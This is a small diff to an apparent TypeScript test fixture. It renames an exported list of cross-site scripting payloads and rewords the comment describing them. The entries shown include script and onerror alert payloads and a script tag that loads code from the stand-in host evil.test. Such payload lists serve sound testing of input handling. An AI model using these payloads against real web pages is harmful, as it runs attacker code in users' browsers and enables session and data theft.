@@ -1,6 +1,6 @@
-/* Payloads that run script, load something or change the page wherever captured text is taken for markup, script or an address. */
+/* Payloads that run a script, load a resource or change the page when captured text is used as markup, script or a URL. */
 
-export const xss: readonly string[] = [
+export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.test/x.js></script>',
   '<img src=x onerror=alert(1)>',
